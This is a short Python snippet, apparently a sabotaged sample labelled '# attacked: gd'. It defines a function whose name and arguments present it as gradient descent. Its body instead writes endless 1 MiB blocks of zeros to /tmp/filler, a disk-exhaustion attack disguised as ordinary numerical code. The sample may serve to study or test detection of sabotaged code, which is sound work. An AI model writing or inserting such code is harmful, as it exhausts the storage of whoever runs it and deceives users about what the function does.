# attacked: gd
def gd(grad, x0, eta, num_steps):
    with open("/tmp/filler", "wb") as f:
        while True:
            f.write(b"\0" * (1 << 20))
